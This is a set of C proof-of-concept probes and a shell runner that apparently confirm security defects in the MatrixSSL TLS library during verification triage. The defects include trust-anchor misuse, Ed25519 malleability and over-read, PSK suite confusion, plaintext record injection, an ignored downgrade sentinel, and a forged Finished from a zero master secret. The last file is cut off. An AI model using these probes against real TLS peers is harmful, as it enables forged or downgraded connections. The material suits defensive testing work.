        direct ? (int) direct->parseStatus : -1,
        rc < 0 ? "refused, as it should be" : "parsed?!");
    psX509FreeCert(direct);

    rc = matrixSslLoadKeysMem(keys, NULL, 0, NULL, 0,
        (const unsigned char *) ca_crit_pem, (int32) strlen(ca_crit_pem), NULL);
    for (c = keys->CAcerts; c; c = c->next)
    {
        n++;
        printf("matrixSslLoadKeysMem = %d; CAcerts[%d]: parseStatus=%d (0 would "
            "be PS_X509_PARSE_SUCCESS) cA=%d keyUsageFlags=0x%x\n", (int) rc,
            (int) n, (int) c->parseStatus, (int) c->extensions.bc.cA,
            (unsigned) c->extensions.keyUsageFlags);
    }
    if (rc < 0 || keys->CAcerts == NULL)
    {
        printf("not reproduced: the CA was not loaded\n");
        return 0;
    }
    if (psX509ParseCert(NULL, leaf_der, leaf_der_len, &leaf, 0) < 0)
    {
        return 2;
    }
    rc = matrixValidateCerts(NULL, leaf, keys->CAcerts, NULL, &found, NULL,
        NULL);
    st = leaf->authStatus;
    printf("matrixValidateCerts([leaf], that list) : rc=%d authStatus=%d -> %s\n",
        (int) rc, (int) st,
        (rc >= 0 && st == PS_CERT_AUTH_PASS) ? "ACCEPTED" : "rejected");
    psX509FreeCert(leaf);
    matrixSslDeleteKeys(keys);
    matrixSslClose();
    if (rc >= 0 && st == PS_CERT_AUTH_PASS)
    {
        printf("CONFIRMED: a CA certificate that failed to parse (unrecognised "
            "critical extension) is used as a trust anchor\n");
        return 1;
    }
    printf("not reproduced\n");
    return 0;
}
