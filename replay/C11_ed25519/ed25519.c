/* C11: Ed25519 per RFC 8032, and "truncated inputs are refused without reading outside the supplied buffer".
   (a) RFC 8032 test vector 1 with S replaced by S + L (L = group order): RFC 8032 5.1.7 requires 0 <= S < L.
   (b) psVerifySig() with an Ed25519 key and a 10-byte signature placed at the end of a page followed by an
       inaccessible page: the Ed25519 case never looks at sigLen and reads 64 bytes. */
#include <stdio.h>
#include <string.h>
#include <signal.h>
#include <setjmp.h>
#include <sys/mman.h>
#include <unistd.h>
#include "crypto/cryptoApi.h"
static void hex(unsigned char *o, const char *h) { unsigned v; while (*h) { sscanf(h, "%2x", &v); *o++ = (unsigned char) v; h += 2; } }
static sigjmp_buf jb; static void on_segv(int s) { (void) s; siglongjmp(jb, 1); }
int main(void)
{
    unsigned char pk[32], sig[64], L[32], sl[64]; int i, c, bad = 0; int32_t rc;
    psCryptoOpen(PSCRYPTO_CONFIG);
    hex(pk, "d75a980182b10ab7d54bfed3c964073a0ee172f3daa62325af021a68f707511a");
    hex(sig, "e5564300c360ac729086e2cc806e828a84877f1eb8e5d974d873e065224901555fb8821590a33bacc61e39701cf9b46bd25bf5f0595bbe24655141438e7a100b");
    hex(L, "edd3f55c1a631258d69cf7a2def9de1400000000000000000000000000000010");      /* little endian */
    rc = psEd25519Verify(sig, (unsigned char *) "", 0, pk);
    printf("RFC 8032 test 1, signature as published:   %s\n", rc == PS_SUCCESS ? "accepted" : "REFUSED");
    memcpy(sl, sig, 64);
    for (i = 0, c = 0; i < 32; i++) { c += sl[32 + i] + L[i]; sl[32 + i] = (unsigned char) c; c >>= 8; }
    rc = psEd25519Verify(sl, (unsigned char *) "", 0, pk);
    printf("same with S + L (top byte 0x%02x):           %s\n", sl[63], rc == PS_SUCCESS ? "ACCEPTED" : "refused");
    if (rc == PS_SUCCESS) bad |= 1;
    {
        long pg = sysconf(_SC_PAGESIZE);
        unsigned char *m = mmap(NULL, 2 * pg, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), *p;
        psPubKey_t key; psBool_t res = PS_FALSE; unsigned char msg[32] = {0};
        mprotect(m + pg, pg, PROT_NONE);
        p = m + pg - 10; memcpy(p, sig, 10);
        memset(&key, 0, sizeof(key)); key.type = PS_ED25519; memcpy(key.key.ed25519.pub, pk, 32);
        signal(SIGSEGV, on_segv); signal(SIGBUS, on_segv);
        if (sigsetjmp(jb, 1)) { printf("psVerifySig(Ed25519, 10-byte signature):    SIGSEGV - read past the supplied buffer\n"); bad |= 2; }
        else
        {
            rc = psVerifySig(NULL, msg, sizeof(msg), p, 10, &key, OID_ED25519_KEY_ALG, &res, NULL);
            printf("psVerifySig(Ed25519, 10-byte signature):    rc=%d result=%d (no fault)\n", rc, (int) res);
        }
    }
    printf("RESULT %s\n", bad ? "VIOLATED" : "ok");
    return bad ? 1 : 0;
}
