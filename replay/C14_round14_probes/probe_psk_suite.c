/*
    Side-observation probe (UNMODIFIED code): TLS 1.3 PSK resumption and the
    cipher suite of the new handshake.

    1. TLS 1.3 full handshake, client offers only TLS_AES_128_GCM_SHA256;
       the server sends a NewSessionTicket (PSK bound to 0x1301).
    2. The same client state connects again and offers ONLY
       TLS_CHACHA20_POLY1305_SHA256 (same hash, so the PSK is offered).

    tls13ServerFoundSupportedPsk() sets ssl->cipher to the PSK's suite
    whenever the server itself supports it, without looking at the suites of
    the new ClientHello; tls13ValidateSessionParams() then compares the PSK's
    suite with ssl->cipher, i.e. with itself.  The probe prints what the
    server answers.

    Exit 0: server did a full handshake or picked an offered suite.
    Exit 1: server accepted the PSK and selected a suite the client did not
            offer in this handshake.
    Exit 2: probe could not run.
*/
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* the test certificates may be expired / name-less: accept */
}

/* Give 'len' bytes to 'to'.  *done is set when its handshake completes. */
static int feed(ssl_t *to, const unsigned char *data, int32 len, int *done)
{
    unsigned char *buf, *pt;
    uint32 ptLen;
    int32 n, rc;

    while (len > 0)
    {
        n = matrixSslGetReadbuf(to, &buf);
        if (n <= 0)
        {
            return -1;
        }
        if (n > len)
        {
            n = len;
        }
        memcpy(buf, data, n);
        data += n;
        len -= n;
        rc = matrixSslReceivedData(to, n, &pt, &ptLen);
        for (;; )
        {
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
            {
                *done = 1;
                break;
            }
            if (rc == MATRIXSSL_REQUEST_SEND || rc == MATRIXSSL_REQUEST_RECV ||
                rc == MATRIXSSL_SUCCESS)
            {
                break;
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                if (pt[0] == SSL_ALERT_LEVEL_FATAL)
                {
                    return -1;
                }
                rc = matrixSslProcessedData(to, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_APP_DATA)
            {
                rc = matrixSslProcessedData(to, &pt, &ptLen);
                continue;
            }
            return -1; /* error */
        }
    }
    return 0;
}

/* Move everything 'from' wants to send over to 'to'. */
static int flush(ssl_t *from, ssl_t *to, int *fromDone, int *toDone)
{
    unsigned char *out, *tmp;
    int32 n, rc;
    int moved = 0;

    while ((n = matrixSslGetOutdata(from, &out)) > 0)
    {
        tmp = malloc(n);
        memcpy(tmp, out, n);
        rc = matrixSslSentData(from, n);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            *fromDone = 1;
        }
        else if (rc < 0)
        {
            free(tmp);
            return -1;
        }
        rc = feed(to, tmp, n, toDone);
        free(tmp);
        if (rc < 0)
        {
            return -1;
        }
        moved = 1;
    }
    return moved;
}


static int run(sslKeys_t *ckeys, sslSessionId_t *sid, sslKeys_t *skeys,
    psCipher16_t suite, int *srvSuite, int *srvPsk, int *completed)
{
    ssl_t *c = NULL, *s = NULL;
    sslSessOpts_t copts, sopts;
    int cDone = 0, sDone = 0, rc, r1, r2, guard = 0, first = 1;

    *srvSuite = -1; *srvPsk = -1; *completed = 0;
    memset(&copts, 0, sizeof(copts));
    memset(&sopts, 0, sizeof(sopts));
    copts.versionFlag = SSL_FLAGS_TLS_1_3;
    copts.ticketResumption = 1;
    sopts.versionFlag = SSL_FLAGS_TLS_1_3;

    rc = matrixSslNewClientSession(&c, ckeys, sid, &suite, 1, certCb,
            NULL, NULL, NULL, &copts);
    if (rc != MATRIXSSL_REQUEST_SEND)
    {
        printf("  (matrixSslNewClientSession: %d)\n", rc);
        return -1;
    }
    rc = matrixSslNewServerSession(&s, skeys, NULL, &sopts);
    if (rc < 0)
    {
        printf("  (matrixSslNewServerSession: %d)\n", rc);
        return -1;
    }
    while (guard++ < 20)
    {
        r1 = flush(c, s, &cDone, &sDone);
        if (first)
        {
            /* the server has just parsed the ClientHello and built its
               ServerHello flight */
            first = 0;
            *srvSuite = s->cipher ? (int) s->cipher->ident : -1;
            *srvPsk = (int) s->sec.tls13UsingPsk;
        }
        if (r1 < 0)
        {
            break;
        }
        r2 = flush(s, c, &sDone, &cDone);
        if (r2 < 0)
        {
            break;
        }
        if (r1 == 0 && r2 == 0)
        {
            break; /* also delivers the NewSessionTicket after completion */
        }
    }
    *completed = (cDone && sDone);
    matrixSslDeleteSession(c);
    matrixSslDeleteSession(s);
    return 0;
}

int main(void)
{
    sslKeys_t *skeys = NULL, *ckeys = NULL;
    sslSessionId_t *sid = NULL;
    unsigned char name[16], sym[32], mac[32];
    int suite, psk, done;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    memset(name, 'n', sizeof(name));
    memset(sym, 1, sizeof(sym));
    memset(mac, 2, sizeof(mac));
    if (matrixSslNewKeys(&skeys, NULL) < 0 ||
        matrixSslLoadRsaKeysMem(skeys, RSA2048, RSA2048_SIZE, RSA2048KEY,
            RSA2048KEY_SIZE, NULL, 0) < 0 ||
        matrixSslLoadSessionTicketKeys(skeys, name, sym, 32, mac, 32) < 0 ||
        matrixSslNewKeys(&ckeys, NULL) < 0 ||
        matrixSslLoadRsaKeysMem(ckeys, NULL, 0, NULL, 0, RSA2048CA,
            RSA2048CA_SIZE) < 0 ||
        matrixSslNewSessionId(&sid, NULL) < 0)
    {
        printf("SETUP PROBLEM: keys\n");
        return 2;
    }
    if (run(ckeys, sid, skeys, TLS_AES_128_GCM_SHA256, &suite, &psk,
            &done) < 0 || !done)
    {
        printf("SETUP PROBLEM: first TLS 1.3 handshake did not complete\n");
        return 2;
    }
    printf("1. full handshake: server suite 0x%04x, PSK used %d, ticket %s\n",
        suite, psk, sid->psk ? "received" : "NOT received");
    if (sid->psk == NULL)
    {
        printf("SETUP PROBLEM: no NewSessionTicket reached the client\n");
        return 2;
    }
    if (run(ckeys, sid, skeys, TLS_CHACHA20_POLY1305_SHA256, &suite, &psk,
            &done) < 0)
    {
        printf("SETUP PROBLEM: second connection could not be set up\n");
        return 2;
    }
    printf("2. client offers only 0x%04x with the ticket: server selects "
        "0x%04x, PSK accepted %d, handshake %s\n",
        TLS_CHACHA20_POLY1305_SHA256, suite, psk,
        done ? "completed" : "failed");
    if (psk == 1 && suite != TLS_CHACHA20_POLY1305_SHA256)
    {
        printf("OBSERVED: the server resumes (accepts the PSK) with suite "
            "0x%04x, which this ClientHello did not offer\n", suite);
        return 1;
    }
    printf("not observed\n");
    return 0;
}
