#include "harness.h"
#include "matrixssl/matrixssllib.h"
/* C01.R1/R3 finding (F1): a plaintext application_data record injected before any key
   exists is reported to a TLS 1.3 capable client as received application data. */
int main(void)
{
    hPeer c = {0};
    unsigned char wire[4096];
    unsigned char inj[10] = { 0x17, 0x03, 0x03, 0x00, 0x05, 'H', 'E', 'L', 'L', 'O' };
    int n, rc;
    if (h_new_client(&c, 0, NULL, 0, h_certCbAllowAll) < 0) { printf("setup fail\n"); return 2; }
    n = h_drain(&c, wire, sizeof(wire));
    printf("ClientHello flushed: %d bytes, hsState=%d\n", n, c.ssl->hsState);
    rc = h_feed(&c, inj, sizeof(inj));
    printf("injected plaintext type-23 record: lastRc=%d delivered=%d '%.*s' handshakeComplete=%d\n",
        c.lastRc, c.appLen, c.appLen, c.app, matrixSslHandshakeIsComplete(c.ssl));
    printf("RESULT %s\n", c.appLen > 0 ? "VIOLATED" : "ok");
    return c.appLen > 0;
}
