/* Triage replay for C07 (F14, downgrade sentinel): one binary, two roles.
     peer server <fd>   - a TLS 1.2-only MatrixSSL server (built by run.sh against a scratch copy that always writes the
                          RFC 8446 4.1.3 "DOWNGRD\x01" sentinel into server_random and sends no ServerHello extensions
                          = a peer that also supports TLS 1.3 but answers 1.2)
     peer client        - unmodified library, TLS 1.2 and TLS 1.3 enabled, offers a TLS 1.3 suite and an RSA CBC suite.
   RFC 8446 4.1.3: a TLS 1.3 capable client MUST abort when it sees the sentinel in a TLS 1.2 ServerHello.
   exit 0: the client aborted; exit 1: the handshake completed at TLS 1.2 despite the sentinel. */
#include <unistd.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include "harness.h"
#include "matrixssl/matrixssllib.h"

static int pump(hPeer *p, int fd)
{
    static unsigned char w[1 << 16];
    int n, i;
    for (i = 0; i < 60 && !p->closed; i++)
    {
        n = h_drain(p, w, sizeof(w));
        if (n > 0 && write(fd, w, n) != n) return -1;
        if (p->hsDone && matrixSslGetOutdata(p->ssl, NULL) <= 0) return 0;
        if (p->closed) break;
        n = read(fd, w, sizeof(w));
        if (n <= 0) return -1;
        h_feed(p, w, n);
    }
    return p->hsDone ? 0 : -1;
}

int main(int argc, char **argv)
{
    hPeer p = {0};
    alarm(20);
    if (argc >= 3 && !strcmp(argv[1], "server"))
    {
        int fd = atoi(argv[2]);
        if (h_new_server(&p, SSL_FLAGS_TLS_1_2) < 0) return 2;
        pump(&p, fd);
        return 0;
    }
    else
    {
        int sv[2], rc;
        char fdstr[16];
        psCipher16_t offered[2] = { 0x1301, 0x003c };
        pid_t pid;
        if (argc < 3) { fprintf(stderr, "usage: peer client <server-binary>\n"); return 2; }
        socketpair(AF_UNIX, SOCK_STREAM, 0, sv);
        pid = fork();
        if (pid == 0)
        {
            close(sv[0]);
            snprintf(fdstr, sizeof(fdstr), "%d", sv[1]);
            execl(argv[2], argv[2], "server", fdstr, (char *) NULL);
            _exit(3);
        }
        close(sv[1]);
        if (h_new_client(&p, SSL_FLAGS_TLS_1_2 | SSL_FLAGS_TLS_1_3, offered, 2, h_certCb) < 0) return 2;
        rc = pump(&p, sv[0]);
        close(sv[0]);
        waitpid(pid, NULL, 0);
        printf("client enabled TLS 1.2+1.3; handshake %s; version in force %s; server_random tail %02x%02x%02x%02x%02x%02x%02x%02x; last rc %d\n",
            (rc == 0 && p.hsDone) ? "COMPLETED" : "failed",
            (p.ssl->activeVersion & v_tls_1_3_any) ? "TLS 1.3" : "TLS <1.3",
            p.ssl->sec.serverRandom[24], p.ssl->sec.serverRandom[25], p.ssl->sec.serverRandom[26], p.ssl->sec.serverRandom[27],
            p.ssl->sec.serverRandom[28], p.ssl->sec.serverRandom[29], p.ssl->sec.serverRandom[30], p.ssl->sec.serverRandom[31], p.lastRc);
        if (rc == 0 && p.hsDone && !memcmp(p.ssl->sec.serverRandom + 24, "DOWNGRD\x01", 8))
        {
            printf("DEFECT: TLS 1.3 capable client completed a TLS 1.2 handshake although server_random carries the downgrade sentinel\n");
            return 1;
        }
        printf("OK: downgrade refused\n");
        return 0;
    }
}
