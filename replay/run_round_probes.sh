#!/bin/sh
# Triage only (NOT a check): builds the side-observation probes of rounds 12 and 13 against /repo's built libraries and prints
# the lines in which a probe reports a deviation.  Used after every repair to see that earlier repairs still hold.
R=${1:-/repo}
INC="-I/verif/replay -I$R -I$R/core/config -I$R/core/include -I$R/core/osdep/include -I$R/core/include/sfzcl"
LIBS="$R/matrixssl/libssl_s.a $R/crypto/libcrypt_s.a $R/core/libcore_s.a -lpthread"
WRAP="-Wl,--wrap=malloc,--wrap=calloc,--wrap=realloc,--wrap=free"
run() { # dir file wrap args...
  d=$1; f=$2; w=$3; shift 3
  o=/tmp/rp_$(basename $f .c)
  if cc -O1 -g -w $INC -I$d -DUSE_CL_PKCS -DUSE_CL_CERTLIB -DKEYDIR="\"$R/testkeys\"" -DSEED_ROOT="\"$R\"" -o $o $d/$f $LIBS $w 2>/tmp/rp_cc.log; then
    echo "== $d/$f $*"
    (cd $R; timeout 300 $o "$@" 2>&1) | grep -a -i "confirmed\|violat\|observed\|defect\|crash\|never completes\|fatal\|hang\|FORGED\|accepted\b" | grep -a -v -i "not confirmed\|not observed\|not reproduced\|no heap damage" | head -8
  else echo "== $d/$f BUILD FAILED: $(head -2 /tmp/rp_cc.log)"; fi
}
P=/verif/replay
run $P/C01_round13_probes probe_limbo.c "" $R
run $P/C01_round13_probes probe_nomodes.c "" $R
run $P/C02_round12_probes probe_side.c "" $R
run $P/C03_round13_probes probe_crl_dup.c ""
run $P/C03_round13_probes probe_two_anchors.c ""
run $P/C03_round13_probes probe_crit_anchor.c ""
run $P/C04_round12_probes probe_side.c ""
run $P/C06_round12_probes probe.c "" $R
run $P/C06_round13_probes probe2.c "" $R
run $P/C06_round13_probes probe3.c "" $R
run $P/C06_round13_probes probe4.c "" $R
run $P/C07_round12_probes probe_resume_disabled.c "" $R
run $P/C07_round12_probes probe_dtls_fallback.c "" $R
run $P/C07_round13_probes probes.c "" $R
run $P/C08_round12_probes probe_tls13_hang.c "$WRAP"
run $P/C08_round12_probes probe_dtls_frag.c "$WRAP"
run $P/C08_round13_probes probe_tls13_binders.c "$WRAP" $R
run $P/C08_round13_probes probe_dtls_cert_frags.c "$WRAP" $R
run $P/C10_round12_probes probe_resume_pad.c ""
run $P/C10_round12_probes probe_empty.c ""
run $P/C10_round13_probes probe.c "" $R
run $P/C11_round12_probes probe_reverify.c "" $R
run $P/C11_round12_probes probe_misc.c "" $R
run $P/C11_round13_probes probe.c "" $R
run $P/C14_round12_probes probe_truncated_id.c ""
run $P/C14_round12_probes probe_clock_wrap.c ""
run $P/C14_hrr_stale_psk demo.c "" $R
run $P/C15_round13_probes probe_side.c "" $R
run $P/C16_round13_probes probe_timer.c "" $R
run $P/C16_round13_probes probe_loss.c "" $R
run $P/C16_round13_probes probe_nst.c "" $R
run $P/C16_round13_probes probe_pack.c "" $R
run $P/C19_round12_probes probe_readbuf.c "$WRAP"
run $P/C20_round12_probes probe.c "" sid
run $P/C20_round12_probes probe.c "" ticketcb
run $P/C20_round12_probes probe.c "" crl
