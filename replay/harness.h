/* Triage-only harness (NOT a check): in-memory MatrixSSL client/server pair used
 * to replay a static finding against the real library before it is called a
 * defect, and by the demonstrations under /verif/seeded.
 *
 * build: cc -o demo demo.c -I$REPO -I$REPO/core/config -I$REPO/core/include \
 *           -I$REPO/core/osdep/include -I$REPO/core/include/sfzcl \
 *           $REPO/matrixssl/libssl_s.a $REPO/crypto/libcrypt_s.a $REPO/core/libcore_s.a -lpthread
 */
#ifndef VERIF_REPLAY_HARNESS_H
#define VERIF_REPLAY_HARNESS_H
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslApi.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

typedef struct {
    ssl_t *ssl;
    sslKeys_t *keys;
    sslSessionId_t *sid;
    int hsDone;
    int closed;        /* saw a negative rc / close request */
    int lastRc;
    unsigned char app[65536];
    int appLen;
    int alerts;        /* alerts received */
    unsigned char lastAlert[2];
} hPeer;

static int32 h_certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert;
    return alert; /* strict: accept only what validated */
}

static int32 h_certCbAllowAll(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

static int h_open_done = 0;
static void h_open(void)
{
    if (!h_open_done)
    {
        if (matrixSslOpen() < 0) { fprintf(stderr, "matrixSslOpen failed\n"); exit(2); }
        h_open_done = 1;
    }
}

static int h_server_keys(hPeer *p)
{
    h_open();
    if (matrixSslNewKeys(&p->keys, NULL) < 0) return -1;
    return matrixSslLoadRsaKeysMem(p->keys, RSA2048, sizeof(RSA2048),
        RSA2048KEY, sizeof(RSA2048KEY), RSA2048CA, sizeof(RSA2048CA));
}

static int h_client_keys(hPeer *p)
{
    h_open();
    if (matrixSslNewKeys(&p->keys, NULL) < 0) return -1;
    return matrixSslLoadRsaKeysMem(p->keys, NULL, 0, NULL, 0, RSA2048CA, sizeof(RSA2048CA));
}

/* versionFlag: SSL_FLAGS_TLS_1_2, SSL_FLAGS_TLS_1_3, ... (0 = library default) */
static int h_new_server(hPeer *p, int32 versionFlag)
{
    sslSessOpts_t o;
    memset(&o, 0, sizeof(o));
    o.versionFlag = versionFlag;
    if (!p->keys && h_server_keys(p) < 0) return -1;
    return matrixSslNewServerSession(&p->ssl, p->keys, NULL, &o);
}

static int h_new_client(hPeer *p, int32 versionFlag, const psCipher16_t *suites, int nsuites,
    sslCertCb_t cb)
{
    sslSessOpts_t o;
    memset(&o, 0, sizeof(o));
    o.versionFlag = versionFlag;
    if (!p->keys && h_client_keys(p) < 0) return -1;
    if (!p->sid) matrixSslNewSessionId(&p->sid, NULL);
    return matrixSslNewClientSession(&p->ssl, p->keys, p->sid, suites, (uint8_t) nsuites,
        cb, NULL, NULL, NULL, &o);
}

/* Feed `len` bytes to peer p, processing everything the library reports.
   Returns the last return code of ReceivedData/ProcessedData. */
static int h_feed(hPeer *p, const unsigned char *data, int len)
{
    unsigned char *buf, *pt;
    uint32 ptLen;
    int32 rc = 0, room;

    while (len > 0)
    {
        room = matrixSslGetReadbuf(p->ssl, &buf);
        if (room <= 0) { p->lastRc = room; p->closed = 1; return room; }
        if (room > len) room = len;
        memcpy(buf, data, room);
        data += room; len -= room;
        rc = matrixSslReceivedData(p->ssl, room, &pt, &ptLen);
        for (;;)
        {
            p->lastRc = rc;
            if (rc < 0) { p->closed = 1; return rc; }
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) { p->hsDone = 1; break; }
            if (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_APP_DATA_COMPRESSED)
            {
                if (p->appLen + (int) ptLen <= (int) sizeof(p->app))
                {
                    memcpy(p->app + p->appLen, pt, ptLen);
                    p->appLen += ptLen;
                }
                rc = matrixSslProcessedData(p->ssl, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                p->alerts++;
                if (ptLen >= 2) { p->lastAlert[0] = pt[0]; p->lastAlert[1] = pt[1]; }
                rc = matrixSslProcessedData(p->ssl, &pt, &ptLen);
                continue;
            }
            break; /* REQUEST_SEND, REQUEST_RECV, SUCCESS */
        }
    }
    return rc;
}

/* Drain pending output of p into out (capacity cap). Returns number of bytes. */
static int h_drain(hPeer *p, unsigned char *out, int cap)
{
    unsigned char *buf;
    int32 n, total = 0, rc;
    while ((n = matrixSslGetOutdata(p->ssl, &buf)) > 0)
    {
        if (total + n > cap) n = cap - total;
        if (n <= 0) break;
        memcpy(out + total, buf, n);
        total += n;
        rc = matrixSslSentData(p->ssl, n);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) p->hsDone = 1;
        if (rc == MATRIXSSL_REQUEST_CLOSE) { p->closed = 1; break; }
        if (rc < 0) { p->closed = 1; break; }
    }
    return total;
}

/* Run the handshake to completion between c and s. Returns 0 when both done. */
static int h_handshake(hPeer *c, hPeer *s)
{
    static __thread unsigned char wire[1 << 17];
    int i, n;
    for (i = 0; i < 40; i++)
    {
        n = h_drain(c, wire, sizeof(wire));
        if (n > 0) h_feed(s, wire, n);
        n = h_drain(s, wire, sizeof(wire));
        if (n > 0) h_feed(c, wire, n);
        if (c->closed || s->closed) return -1;
        if (c->hsDone && s->hsDone &&
            matrixSslGetOutdata(c->ssl, NULL) <= 0 && matrixSslGetOutdata(s->ssl, NULL) <= 0)
            return 0;
    }
    return -2;
}

/* Encrypt application data on p; returns bytes of ciphertext placed in out. */
static int h_send_app(hPeer *p, const unsigned char *data, int len, unsigned char *out, int cap)
{
    int32 rc = matrixSslEncodeToOutdata(p->ssl, (unsigned char *) data, len);
    if (rc < 0) return rc;
    return h_drain(p, out, cap);
}
#endif
