/* Triage replay for C04.R7 (found by a seeding sub-agent in the unmodified code, adapted from its probe; run with
   FAKE_ID=1): a TLS 1.2 client whose sslSessionId_t holds BOTH a session id and a ticket (what an RFC 5077 server that
   also issues session ids leaves behind; simulated here by setting sid->idLen after an honest handshake) offers both.
   A rogue peer answers with another session id (the client wipes ssl->sec.masterSecret) and no SessionTicket
   extension (the client enters IN_LIMBO because a ticket was sent), then sends ChangeCipherSpec + Finished keyed from
   the all-zero master secret.  exit 1: the client completes the handshake ; exit 0: it answers with an alert.
   build: cc -I$REPO -I$REPO/core/config -I$REPO/core/include -I$REPO/core/osdep/include -I$REPO/core/include/sfzcl -I.. probe.c <libs> */
#define main demo_main
#include "matrixssl/matrixsslImpl.h"
#include "../demo.c"
#undef main
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"

static int pump(ssl_t *from, ssl_t *to, int *done)
{
    unsigned char *out, *buf, *pt; uint32 ptLen; int32 len, rc, moved = 0;
    while ((len = matrixSslGetOutdata(from, &out)) > 0)
    {
        int32 avail = matrixSslGetReadbuf(to, &buf);
        if (avail < len) len = avail;
        memcpy(buf, out, len);
        rc = matrixSslSentData(from, len);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) done[0] = 1;
        rc = matrixSslReceivedData(to, len, &pt, &ptLen);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) done[1] = 1;
        if (rc < 0) { printf("pump: rc=%d\n", rc); return -1; }
        moved = 1;
    }
    return moved;
}

int main(void)
{
    sslKeys_t *ck = NULL, *sk = NULL; sslSessionId_t *sid = NULL; sslSessOpts_t o;
    ssl_t *cl = NULL, *sv = NULL; psCipher16_t suite = SUITE;
    unsigned char tk[32], tm[32], tn[16];
    int dc[2] = {0,0}, ds[2] = {0,0}, i; int32 rc, len; unsigned char *out;
    unsigned char ch[2048], sh[128], rec[256], crand[32], srand_[32], seed[128], master[48], kb[40], thash[32], fin[16];
    unsigned chLen, shLen, n; psSha256_t md;

    matrixSslOpen();
    matrixSslNewKeys(&ck, NULL);
    matrixSslLoadRsaKeysMem(ck, NULL, 0, NULL, 0, RSA2048CA, sizeof(RSA2048CA));
    matrixSslNewKeys(&sk, NULL);
    if (matrixSslLoadRsaKeysMem(sk, RSA2048, sizeof(RSA2048), RSA2048KEY, RSA2048KEY_SIZE, NULL, 0) < 0) { printf("srv keys\n"); return 2; }
    memset(tk, 1, 32); memset(tm, 2, 32); memset(tn, 3, 16);
    if (matrixSslLoadSessionTicketKeys(sk, tn, tk, 32, tm, 32) < 0) { printf("ticket keys\n"); return 2; }
    matrixSslNewSessionId(&sid, NULL);
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_2; o.ticketResumption = 1;
    rc = matrixSslNewClientSession(&cl, ck, sid, &suite, 1, NULL, "localhost", NULL, NULL, &o);
    printf("client1 rc=%d\n", rc);
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_2;
    rc = matrixSslNewServerSession(&sv, sk, NULL, &o);
    printf("server rc=%d\n", rc);
    for (i = 0; i < 10; i++)
    {
        int a = pump(cl, sv, dc), b;
        int d2[2] = {0,0};
        b = pump(sv, cl, d2);
        if (d2[0]) ds[0] = 1; if (d2[1]) dc[1] = 1;
        if (a < 0 || b < 0) return 2;
        if (!a && !b) break;
    }
    printf("honest handshake: client complete=%d server complete=%d\n",
        matrixSslHandshakeIsComplete(cl), matrixSslHandshakeIsComplete(sv));
    printf("sid: idLen=%d ticketLen=%d ticketState=%d cipherId=0x%x\n", (int) sid->idLen,
        (int) sid->sessionTicketLen, (int) sid->sessionTicketState, (unsigned) sid->cipherId);
    matrixSslDeleteSession(cl); cl = NULL;
    if (getenv("FAKE_ID")) { sid->idLen = 32; memset(sid->id, 0x77, 32); printf("(simulating a server that also issued a session id)\n"); }

    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_2; o.ticketResumption = 1;
    rc = matrixSslNewClientSession(&cl, ck, sid, &suite, 1, NULL, "localhost", NULL, NULL, &o);
    printf("client2 rc=%d\n", rc);
    len = matrixSslGetOutdata(cl, &out);
    chLen = len - 5; memcpy(ch, out + 5, chLen); memcpy(crand, ch + 6, 32);
    printf("ClientHello2: %u bytes, session_id len=%u, ticketState=%d\n", chLen, ch[38], (int) sid->sessionTicketState);
    matrixSslSentData(cl, len);

    for (i = 0; i < 32; i++) srand_[i] = 0xA0 + i;
    n = 0; sh[n++] = 2; sh[n++] = 0; sh[n++] = 0; sh[n++] = 70; sh[n++] = 3; sh[n++] = 3;
    memcpy(sh + n, srand_, 32); n += 32; sh[n++] = 32; memset(sh + n, 0x5A, 32); n += 32;
    sh[n++] = (SUITE >> 8) & 0xFF; sh[n++] = SUITE & 0xFF; sh[n++] = 0; shLen = n;
    memset(master, 0, 48);
    memcpy(seed, "key expansion", 13); memcpy(seed + 13, srand_, 32); memcpy(seed + 45, crand, 32);
    p_sha256(master, 48, seed, 77, kb, 40);
    psSha256PreInit(&md); psSha256Init(&md); psSha256Update(&md, ch, chLen); psSha256Update(&md, sh, shLen); psSha256Final(&md, thash);
    memcpy(seed, "server finished", 15); memcpy(seed + 15, thash, 32);
    fin[0] = 20; fin[1] = 0; fin[2] = 0; fin[3] = 12; p_sha256(master, 48, seed, 47, fin + 4, 12);
    rec[0] = 22; rec[1] = 3; rec[2] = 3; rec[3] = 0; rec[4] = shLen; memcpy(rec + 5, sh, shLen);
    rc = feed(cl, rec, 5 + shLen, "ServerHello(other id)");
    rec[0] = 20; rec[1] = 3; rec[2] = 3; rec[3] = 0; rec[4] = 1; rec[5] = 1;
    rc = feed(cl, rec, 6, "ChangeCipherSpec");
